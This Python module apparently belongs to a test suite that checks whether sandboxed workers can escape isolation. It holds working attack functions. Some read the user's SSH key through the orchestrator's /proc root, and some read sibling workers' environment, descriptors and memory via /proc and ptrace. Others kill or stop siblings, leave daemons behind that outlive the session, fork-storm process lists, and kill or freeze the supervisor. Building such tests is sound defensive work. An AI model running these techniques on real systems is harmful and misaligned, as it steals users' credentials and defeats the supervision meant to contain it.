"""Other processes."""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import sys
import time

from gitcto.escape.attacks.tools import At, checked, keep, libc, loot

_LASTS_S = 30
_RABBIT_S = 60.0
_PTRACE_ATTACH, _PTRACE_DETACH, _PTRACE_PEEKDATA = 16, 17, 2


def proc_root(at: At) -> None:
    """Read the user's key through `/proc/PID/root` of the orchestrator."""
    loot(at, f"/proc/{at['orchestrator']}/root{at['home']}/.ssh/id_ed25519")


def proc_environ(at: At) -> None:
    """Read the environment of another worker."""
    loot(at, f"/proc/{at['sibling']}/environ")


def proc_fd(at: At) -> None:
    """Read a deleted file through the descriptors of another worker."""
    for name in os.listdir(f"/proc/{at['sibling']}/fd"):
        path = f"/proc/{at['sibling']}/fd/{name}"
        if os.path.isfile(path):
            loot(at, path)


def proc_mem(at: At) -> None:
    """Read the memory of another worker."""
    with open(f"/proc/{at['sibling']}/mem", "rb", buffering=0) as memory:
        memory.seek(at["secret_address"])
        keep(at, memory.read(64))


def ptrace(at: At) -> None:
    """Attach to another worker as a debugger and read its memory."""
    call = libc().ptrace
    call.restype = ctypes.c_long
    call.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    checked(call(_PTRACE_ATTACH, at["sibling"], None, None))
    os.waitpid(at["sibling"], 0)
    size = ctypes.sizeof(ctypes.c_long)
    for offset in range(0, 64, size):
        word = call(_PTRACE_PEEKDATA, at["sibling"], at["secret_address"] + offset, None)
        keep(at, word.to_bytes(size, sys.byteorder, signed=True))
    call(_PTRACE_DETACH, at["sibling"], None, None)


def kill_sibling(at: At) -> None:
    """Kill another worker."""
    os.kill(at["sibling"], signal.SIGKILL)


def stop_sibling(at: At) -> None:
    """Stop another worker with SIGSTOP, so that it lives and does nothing."""
    os.kill(at["sibling"], signal.SIGSTOP)


def daemon(at: At) -> None:
    """Leave a process behind that forked twice and has a session of its own."""
    if _forked():
        os.setsid()
        if _forked():
            _last(at)
        os._exit(0)


def daemon_nohup(at: At) -> None:
    """Leave a process behind that ignores every signal it can."""
    if _forked():
        for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
            signal.signal(number, signal.SIG_IGN)
        _last(at)


def daemon_scrubbed(at: At) -> None:
    """Leave a process behind with an empty environment, another directory and no open file."""
    if _forked():
        os.setsid()
        os.chdir("/")
        if _forked():
            _last(at, scrubbed=True)
        os._exit(0)


def rabbit(at: At) -> None:
    """Fork and end without pause, so that no list of processes is ever right."""
    until = time.monotonic() + _RABBIT_S
    held = os.path.join(at["scratch"], "tmp", "held")
    fcntl.flock(os.open(held, os.O_RDWR | os.O_CREAT, 0o600), fcntl.LOCK_EX)
    if not _forked():
        return
    while time.monotonic() < until and not os.path.exists(held + ".enough"):
        os.setsid()
        if not _forked():
            os._exit(0)
    os._exit(0)


def kill_supervisor(at: At) -> None:
    """Leave a scrubbed process behind, then kill the supervisor that would end it."""
    parent = os.getppid()
    ready, held = os.pipe()
    daemon_scrubbed(at)
    os.close(held)
    os.read(ready, 1)  # ends when the last copy goes, as it becomes another program
    if parent > 1:
        os.kill(parent, signal.SIGKILL)


def freeze_supervisor(at: At) -> None:
    """Stop the supervisor with SIGSTOP, so that no limit holds and nobody records the end."""
    parent = os.getppid()
    if parent > 1:
        os.kill(parent, signal.SIGSTOP)


def _forked() -> bool:
    return os.fork() == 0


def _last(at: At, *, scrubbed: bool = False) -> None:
    """Become a process that lasts, with the suite's mark where only the suite looks for it."""
    for number in range(3):
        os.close(number)
    code = f"import time; time.sleep({_LASTS_S})"
    env = {} if scrubbed else dict(os.environ)
    os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", code, at["nonce"]], env)
